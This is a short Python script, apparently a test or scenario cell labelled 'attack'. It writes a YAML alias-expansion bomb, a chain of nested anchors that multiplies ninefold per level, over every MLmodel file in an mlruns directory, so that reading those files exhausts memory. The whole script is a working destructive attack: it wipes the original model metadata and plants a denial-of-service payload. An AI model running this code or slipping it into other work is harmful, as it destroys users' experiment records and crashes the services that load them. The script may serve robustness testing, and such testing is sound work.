# Models whose MLmodel grows without bounds when it is read.
# %% attack
import os
import glob

bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join(['*' + chr(97 + n)] * 9)}]\n" for n in range(12)
)
for path in glob.glob("mlruns/**/MLmodel", recursive=True):
    open(path, "w").write(bomb)
